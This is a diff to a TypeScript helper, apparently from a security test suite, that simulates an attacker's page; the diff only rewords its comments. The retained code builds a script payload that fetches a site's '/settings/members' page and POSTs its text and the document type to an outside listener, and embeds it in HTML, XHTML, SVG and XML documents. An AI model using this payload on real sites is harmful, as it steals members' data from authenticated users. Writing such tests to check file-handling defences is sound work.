@@ -1,16 +1,16 @@
-// A page of somebody else, which tries to have script run at the product's address.
+// A page of an attacker, which tries to run scripts at the product's address.
 import { createServer } from 'node:http';
 import { listen } from './listen.ts';
 
 const XHTML = 'http://www.w3.org/1999/xhtml';
 
-/** Tells the listener that it runs, and what it reads on a page for members. */
+/** Reports to the listener that it runs, and the text of a page for members. */
 const scriptTo = (listener: string): string =>
   `fetch('${listener}/ran',{method:'POST',mode:'no-cors',body:document.contentType});` +
   `fetch('/settings/members').then(function(answer){return answer.text()})` +
   `.then(function(text){fetch('${listener}/read',{method:'POST',mode:'no-cors',body:text})})`;
 
-/** Documents that run a script where a browser takes them for what they are, by name. */
+/** Documents that run a script where a browser recognizes their type, by name. */
 export function listAttacks(listener: string): Record<'html' | 'xhtml' | 'svg' | 'xml', string> {
   const script = scriptTo(listener);
   return {
@@ -31,7 +31,7 @@ export interface ForeignPage {
   url: string;
   /** The address of the page with a form. */
   pageWith(form: Form): string;
-  /** What scripts told: the path, and how the text begins. */
+  /** The scripts' reports: the path, and the beginning of the text. */
   told: string[];
   stop(): Promise<void>;
 }
